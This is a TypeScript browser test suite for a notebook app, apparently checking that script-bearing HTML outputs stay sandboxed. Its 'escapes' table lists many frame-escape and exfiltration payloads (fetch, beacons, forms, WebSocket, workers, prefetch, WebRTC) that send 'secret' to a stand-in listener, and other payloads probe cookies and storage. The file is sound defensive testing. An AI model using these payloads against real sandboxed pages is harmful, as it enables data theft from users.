import { beforeEach, describe, expect, it } from "vitest";
import { bundle } from "../../kernel/hosts/bundle.mjs";
import { join } from "node:path";
import { soaking } from "../counts.ts";
import { eachInANewNotebook, type NotebookPage } from "./harness.ts";
import { type Listener, listen } from "./listener.ts";

let notebook: NotebookPage;
let listener: Listener;
beforeEach(async () => {
  listener = await listen();
  return () => listener.close();
});
eachInANewNotebook(
  (page) => {
    notebook = page;
  },
  { logsRefusals: true },
);

const frame = () => notebook.output(0).frameLocator("iframe.output-frame");

/** Shows pieces of HTML in a new notebook, whose reader lets scripts run. */
async function show(...pieces: readonly string[]): Promise<void> {
  await notebook.openNew();
  await notebook.write(
    0,
    pieces.map((html) => `display({ "text/html": ${JSON.stringify(html)} });`).join("\n"),
  );
  await notebook.run(0);
  await trust();
}

async function trust(): Promise<void> {
  await notebook.output(0).getByRole("button", { name: "Trust this notebook …" }).first().click();
  await notebook.page
    .getByRole("alertdialog", { name: "Trust this notebook?" })
    .getByRole("button", { name: "Trust", exact: true })
    .click();
}

/** Opens a file from elsewhere whose one cell has this HTML below it. */
async function openFile(html: string): Promise<void> {
  const output = { output_type: "display_data", data: { "text/html": html }, metadata: {} };
  const cell = {
    cell_type: "code",
    id: "a",
    metadata: {},
    source: "1",
    execution_count: 1,
    outputs: [output],
  };
  await notebook.open();
  await notebook.choose("Open file", {
    name: "theirs.ipynb",
    mimeType: "application/x-ipynb+json",
    buffer: Buffer.from(
      JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 }),
    ),
  });
  await notebook.cell(0).waitFor();
}

const scripted =
  '<p id="out">before</p><script>document.getElementById("out").textContent = "drawn by a script";</script>';

describe("HTML with scripts", () => {
  it("from elsewhere is shown without them until the reader trusts the notebook", async () => {
    await openFile(scripted);
    const output = notebook.output(0);
    await output.getByText("Scripts in this output are off.").waitFor();
    await expect
      .poll(() => output.locator("#user-content-out, p").first().innerText())
      .toBe("before");
    expect(await output.locator("iframe").count()).toBe(0);
    await trust();
    await frame().getByText("drawn by a script").waitFor();
    await notebook.saved();
    await notebook.page.reload();
    await frame().getByText("drawn by a script").waitFor();
    expect(notebook.errors).toEqual([]);
  });

  it("of a file runs nothing by itself, and says so with one way to run", async () => {
    await openFile("<b>x</b>");
    const line = notebook.page.locator(".notice", { hasText: "came from elsewhere" });
    await line.waitFor();
    await expect.poll(() => notebook.cell(0).getAttribute("data-status")).toBe("idle");
    await line.getByRole("button", { name: "Run the cells" }).click();
    await notebook.ended(0);
    expect(await line.count()).toBe(0);
  });

  it("runs in a frame as tall as what it draws, in the page's colours", async () => {
    await show('<div style="height:321px">tall</div><script>1</script>');
    await frame().getByText("tall").waitFor();
    const box = notebook.output(0).locator("iframe");
    await expect.poll(() => box.evaluate((one) => one.clientHeight)).toBe(321);
    expect(notebook.errors).toEqual([]);
  });

  it("that floods the page with messages is closed", async () => {
    await show(
      "<script>setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage(i, '*'); }, 1);</script>",
    );
    await notebook.output(0).getByText("more messages than it can read").waitFor();
    expect(await notebook.output(0).locator("iframe").count()).toBe(0);
  });
});

/**
 * Ways out of a frame with scripts. `at` is the listener's origin; each program sets `done` when it
 * has done its worst.
 */
const escapes = (at: string, stun: string): Record<string, string> => ({
  "self-navigation by script": `<script>location.href = "${at}/navigated?secret";</script>`,
  "self-navigation by meta": `<meta http-equiv="refresh" content="0;url=${at}/refreshed"><script>1</script>`,
  "a link that clicks itself": `<a id="a" href="${at}/link" ping="${at}/ping">x</a><script>a.click();</script>`,
  "the window above": `<script>try { top.location = "${at}/top"; } catch {} try { parent.location.href = "${at}/parent"; } catch {}</script>`,
  "a popup": `<script>open("${at}/popup"); const a = document.createElement("a"); a.href = "${at}/blank"; a.target = "_blank"; a.click();</script>`,
  "a form": `<form id="f" action="${at}/form" method="post"><input name="q" value="secret"></form><script>f.submit(); f.requestSubmit();</script>`,
  "an image beacon": `<img src="${at}/img"><script>new Image().src = "${at}/image"; navigator.sendBeacon("${at}/beacon", "secret");</script>`,
  "a style sheet": `<link rel="stylesheet" href="${at}/link.css"><style>@import url(${at}/import.css); body { background: url(${at}/bg.png); } @font-face { font-family: x; src: url(${at}/font.woff); }</style><p style="font-family:x">x</p><script>1</script>`,
  "fetches of all kinds": `<script>fetch("${at}/fetch").catch(() => {}); const x = new XMLHttpRequest(); x.open("GET", "${at}/xhr"); try { x.send(); } catch {} try { new WebSocket("${at.replace("http", "ws")}/ws"); } catch {} try { new EventSource("${at}/events"); } catch {} import("${at}/module.js").catch(() => {});</script>`,
  "a nested frame": `<iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed"><iframe srcdoc="<script>fetch('${at}/srcdoc')</script><img src='${at}/srcdoc.png'>"></iframe><script>1</script>`,
  "a worker": `<script>try { new Worker("data:text/javascript," + encodeURIComponent('fetch("${at}/worker")')); } catch {} try { new Worker(URL.createObjectURL(new Blob(['fetch("${at}/blob")']))); } catch {}</script>`,
  prefetching: `<link rel="prefetch" href="${at}/prefetch"><link rel="preload" as="image" href="${at}/preload"><link rel="modulepreload" href="${at}/modulepreload"><link rel="prerender" href="${at}/prerender"><link rel="manifest" href="${at}/manifest"><script type="speculationrules">{"prefetch":[{"urls":["${at}/rules"]}]}</script><script>1</script>`,
  "media and tracks": `<video src="${at}/video" poster="${at}/poster"></video><audio src="${at}/audio"></audio><svg><image href="${at}/svg.png"/><use href="${at}/use.svg#a"/></svg><script>1</script>`,
  "a moved base": `<base href="${at}/"><img src="based.png"><script src="script.js"></script>`,
  WebRTC: `<script>const c = new RTCPeerConnection({ iceServers: [{ urls: "${stun}" }] }); c.createDataChannel("x"); c.createOffer().then((offer) => c.setLocalDescription(offer));</script>`,
});

/** What the frame says when its scripts have had their time. */
const SETTLED = `<p id="settled"></p><script>setTimeout(() => { document.getElementById("settled").textContent = "settled"; }, 1500);</script>`;

describe("a hostile script in an output's frame", () => {
  it("reaches nobody, whatever it tries", async () => {
    const tried = escapes(listener.origin, listener.stun);
    await show(...Object.values(tried), SETTLED);
    await notebook
      .output(0)
      .locator("iframe.output-frame")
      .last()
      .contentFrame()
      .getByText("settled")
      .waitFor();
    expect(listener.heard).toEqual([]);
    expect(new URL(notebook.page.url()).origin).toBe(new URL(notebook.url).origin);
    expect(notebook.page.context().pages()).toHaveLength(1);
    // What the scripts threw in their frames is theirs.
    notebook.errors.length = 0;
  });

  it("reads no storage, cookies or page, and cannot show this page inside itself", async () => {
    await show(`<ul id="found"></ul><script>
      const tries = {
        storage: () => localStorage.length, cookie: () => document.cookie, db: () => indexedDB.open("descent").readyState,
        parent: () => parent.document.title, caches: () => caches.keys(), frames: () => parent.frames[0].document,
      };
      for (const [name, attempt] of Object.entries(tries)) {
        let got = "refused"; try { attempt(); got = "reached"; } catch {}
        found.append(name + ": " + got + " ");
      }
    </script>`);
    await frame().getByText("frames: ").waitFor();
    const text = await frame().locator("#found").innerText();
    expect(text).not.toContain("reached");
    await show(`<script>location.href = ${JSON.stringify(notebook.url)};</script>`, SETTLED);
    const frames = notebook.output(0).locator("iframe.output-frame");
    await frames.last().contentFrame().getByText("settled").waitFor();
    expect(await frames.first().contentFrame().locator("#root").count()).toBe(0);
  });

  it("sends the page whatever it likes, and the page goes on", { timeout: 3_600_000 }, async () => {
    const entry = join(import.meta.dirname, "../hostile/frame.ts");
    const { text } = await bundle(entry, { format: "iife", minify: true });
    const rounds = soaking ? 400 : 8;
    const html = `<script>${text}</script><p id="done"></p>`;
    const source = (seed: number) =>
      `display({ "text/html": ${JSON.stringify(html)}.replace("SEED", "${seed}") });`;
    for (let round = 1; round <= rounds; round++) {
      await notebook.write(0, source(round));
      await notebook.run(0);
      if (round === 1) await trust();
      await frame().getByText("sent 250").waitFor();
    }
    await notebook.write(0, "6 * 7");
    await notebook.run(0);
    await expect.poll(() => notebook.output(0).innerText()).toBe("42");
    expect(await notebook.page.evaluate(() => "pwned" in globalThis || "pwned" in {})).toBe(false);
    expect(await notebook.page.locator("iframe.output-frame").count()).toBe(0);
    expect(notebook.errors).toEqual([]);
  });
});
